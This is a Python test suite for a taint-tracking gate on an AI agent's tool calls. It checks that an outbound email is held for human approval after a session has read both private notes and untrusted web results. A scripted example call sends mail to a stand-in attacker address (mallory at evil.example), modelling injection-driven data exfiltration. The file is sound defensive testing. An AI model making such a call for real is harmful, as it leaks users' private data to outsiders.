"""What sessions read in whole chats, what that leaves behind, and what becomes of calls that reach outside then."""

import json
import os
import re
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import httpx
import psycopg
import pytest
from django.db import transaction

from tenants.models import Tenant
from tenants.scope.routing import on_login
from tests.approvals.api import decide
from tests.approvals.rules import make_rule
from tests.database import rows
from tests.pages.browsing import signed_in
from tests.people import Cast, Person, make_unhurried_tenant
from tests.stack import Stack
from tests.waiting import until

NOTES = 'call: search_notes {"query": "milk"}'
WEB = 'call: web_search {"query": "milk"}'
# A model writes it like this; the user's own words do not hold the address, since nobody reads escapes.
MAIL = r'call: send_email {"to": "mallory\u0040evil.example", "subject": "Hi", "body": "Text"}'
BOTH = [NOTES, "then:", WEB, "then:", MAIL]


@pytest.fixture
def tenant() -> Cast:
    """One in which a rule approves every e-mail in advance."""
    cast = make_unhurried_tenant()
    make_rule(cast)
    return cast


def says(cast: Cast, mode: str) -> None:
    """The tenant's setting."""
    with on_login("operator"), transaction.atomic(using="operator"):
        Tenant.objects.filter(id=cast.id).update(taint=mode)


def chat(stack: Stack, person: Person, *lines: str, **more: Any) -> tuple[dict[str, Any], list[dict[str, Any]]]:
    """A chat that follows a script, and its calls as the table holds them."""
    body = stack.chat(person, "\n".join(lines), **more).json()
    return body, rows("SELECT * FROM tool_calls WHERE run_id = %(run)s ORDER BY turn, position", run=body["run_id"])


def gate(call: dict[str, Any], column: str = "decision") -> dict[str, Any] | None:
    """What the gate said of a call; None: nothing."""
    return next((each for each in call[column] if each["gate"] == "taint"), None)


def read(conversation_id: str) -> dict[str, set[str]]:
    """What the conversation has read, and from where."""
    found: dict[str, set[str]] = {}
    for row in rows("SELECT label, source FROM taint_sources WHERE conversation_id = %(c)s", c=conversation_id):
        found.setdefault(row["label"], set()).add(row["source"])
    return found


def erase(stack: Stack, person: Person, **what: str) -> None:
    """Erase something in the person's name."""
    answer = httpx.post(f"{stack.url}/api/v1/erasures/", json=what, headers=person.headers)
    assert answer.status_code == 201, answer.text


@contextmanager
def within(person: Person) -> Iterator[psycopg.Connection[Any]]:
    """A transaction of the person's, as web and workers have it."""
    with psycopg.connect(os.environ["DATABASE_URL"]) as connection:
        for name, value in zip(("tenant", "user"), person.scope, strict=True):
            connection.execute("SELECT set_config(%s, %s, true)", [f"toolgate.{name}", str(value)])
        yield connection


def test_a_call_that_would_reach_outside_is_held_and_its_request_names_what_was_read(
    stack: Stack, tenant: Cast
) -> None:
    body, [notes, web, mail] = chat(stack, tenant.alice, *BOTH)
    assert read(body["conversation_id"]) == {"private": {"search_notes"}, "untrusted": {"web_search"}}
    assert (body["status"], mail["status"]) == ("requires_action", "awaiting_approval")
    said = gate(mail)
    assert said is not None
    assert said["holds"] is True
    assert [(each["source"], each["call"]) for each in said["facts"]["sources"]] == [
        ("search_notes", str(notes["id"])), ("web_search", str(web["id"]))
    ]  # fmt: skip
    [request] = rows("SELECT * FROM approval_requests WHERE call_id = %(id)s", id=mail["id"])
    assert "search_notes" in request["why"]
    assert "web_search" in request["why"]
    card = " ".join(signed_in(tenant.carol).get(f"/approvals/{request['id']}/").content.decode().split())
    shown = re.search(r'<section class="notice read".*?</section>', card)
    assert shown is not None
    assert re.findall(r"<dt>(.*?)</dt><dd>(\w+), <time", shown[0]) == [
        ("Private data", "search_notes"), ("What strangers wrote", "web_search")
    ]  # fmt: skip
    assert "<dd>It would send something out of the tenant after what this session has read</dd>" in card
    # The rule was not used for a call that waits for a human all the same.
    assert not any("rule" in each for each in mail["decision"])
    [entry] = rows("SELECT kind FROM ledger_entries WHERE call_id = %(id)s", id=mail["id"])
    assert entry["kind"] == "proposed"

    decide(stack, tenant.carol, request["id"], "approve")
    until(lambda: stack.get(tenant.alice, f"/api/v1/runs/{body['run_id']}").json()["status"] == "completed")
    [sent] = rows("SELECT * FROM tool_calls WHERE id = %(id)s", id=mail["id"])
    assert sent["status"] == "success"
    assert gate(sent, "resumed_decision") == {
        "gate": "taint", "ok": True, "log": "a human has approved it", "facts": said["facts"]
    }  # fmt: skip
    # An approval does not clear what was read.
    _, [again] = chat(stack, tenant.alice, MAIL, conversation_id=body["conversation_id"])
    assert again["status"] == "awaiting_approval"


def test_one_of_the_two_does_not_hold_it(stack: Stack, tenant: Cast) -> None:
    for before in (NOTES, WEB):
        body, calls = chat(stack, tenant.alice, before, "then:", MAIL)
        assert (body["status"], calls[-1]["status"], gate(calls[-1])) == ("completed", "success", None)


def test_a_conversation_remembers_what_its_earlier_runs_have_read(stack: Stack, tenant: Cast) -> None:
    first, _ = chat(stack, tenant.alice, NOTES)
    second, _ = chat(stack, tenant.alice, WEB, conversation_id=first["conversation_id"])
    assert second["conversation_id"] == first["conversation_id"]
    _, [mail] = chat(stack, tenant.alice, MAIL, conversation_id=first["conversation_id"])
    assert mail["status"] == "awaiting_approval"
    # Another conversation has read nothing.
    _, [elsewhere] = chat(stack, tenant.alice, MAIL)
    assert elsewhere["status"] == "success"


def test_whom_the_user_names_may_be_written_to(stack: Stack, tenant: Cast) -> None:
    to_bob = f"call: send_email {json.dumps({'to': 'bob@example.com', 'subject': 'Hi', 'body': 'Text'})}"
    _, calls = chat(stack, tenant.alice, NOTES, "then:", WEB, "then:", to_bob)
    assert calls[-1]["status"] == "success"
    said = gate(calls[-1])
    assert said is not None
    assert said["log"] == "bob@example.com stands in the user's own words"


@pytest.mark.parametrize(
    ("mode", "state", "answers"),
    [("off", "success", False), ("observe", "success", True), ("deny", "policy_denied", True)],
)
def test_the_tenant_says_what_becomes_of_it(stack: Stack, tenant: Cast, mode: str, state: str, answers: bool) -> None:
    says(tenant, mode)
    body, calls = chat(stack, tenant.alice, *BOTH)
    assert (calls[-1]["error_code"] or calls[-1]["status"], gate(calls[-1]) is not None) == (state, answers)
    assert rows("SELECT 1 FROM approval_requests WHERE tenant_id = %(t)s", t=tenant.id) == []
    assert read(body["conversation_id"]).keys() == {"private", "untrusted"}


def test_a_call_that_was_refused_has_read_nothing(stack: Stack, tenant: Cast) -> None:
    body, [call] = chat(stack, tenant.alice, 'call: search_notes {"query": 7}')
    assert call["error_code"] == "validation_error"
    assert read(body["conversation_id"]) == {}


# --- it never shrinks ------------------------------------------------------------------------------------------------
def test_no_role_of_a_process_takes_a_label_away(stack: Stack, tenant: Cast) -> None:
    body, _ = chat(stack, tenant.alice, NOTES)
    for role in ("toolgate_app", "toolgate_system"):
        for privilege in ("DELETE", "TRUNCATE"):
            [may] = rows("SELECT has_table_privilege(%(r)s, 'taint_sources', %(p)s) AS may", r=role, p=privilege)
            assert may["may"] is False
        for column in ("tenant_id", "user_id", "conversation_id", "label", "source"):
            [may] = rows(
                "SELECT has_column_privilege(%(r)s, 'taint_sources', %(c)s, 'UPDATE') AS may", r=role, c=column
            )
            assert may["may"] is False, column
    assert read(body["conversation_id"]) == {"private": {"search_notes"}}


def test_what_was_read_outlives_its_call_and_goes_with_the_conversation(stack: Stack, tenant: Cast) -> None:
    body, [call] = chat(stack, tenant.alice, NOTES)
    erase(stack, tenant.alice, call=str(call["id"]))
    assert read(body["conversation_id"]) == {"private": {"search_notes"}}
    erase(stack, tenant.alice, conversation=body["conversation_id"])
    assert read(body["conversation_id"]) == {}


def test_nobody_sees_what_other_peoples_conversations_have_read(stack: Stack, tenant: Cast, other_tenant: Cast) -> None:
    body, _ = chat(stack, tenant.alice, NOTES)
    for person in (tenant.bob, other_tenant.alice):
        with within(person) as connection:
            [[seen]] = connection.execute("SELECT taint_of(%s)", [body["conversation_id"]]).fetchall()
        assert seen == []


def test_what_one_conversation_is_told_by_another_carries_its_reading_along(stack: Stack, tenant: Cast) -> None:
    one, _ = chat(stack, tenant.alice, NOTES)
    two, _ = chat(stack, tenant.alice, WEB)
    with within(tenant.alice) as connection:
        for _ in range(2):
            connection.execute(
                "SELECT flow_taint(%s, %s, %s, %s, NULL)",
                [*tenant.alice.scope, one["conversation_id"], two["conversation_id"]],
            )
        gone = uuid.uuid4()
        connection.execute(
            "SELECT flow_taint(%s, %s, %s, %s, NULL)", [*tenant.alice.scope, one["conversation_id"], gone]
        )
    assert read(two["conversation_id"]) == {"private": {"search_notes"}, "untrusted": {"web_search"}}
    assert read(one["conversation_id"]) == {"private": {"search_notes"}}
    _, [mail] = chat(stack, tenant.alice, MAIL, conversation_id=two["conversation_id"])
    assert mail["status"] == "awaiting_approval"
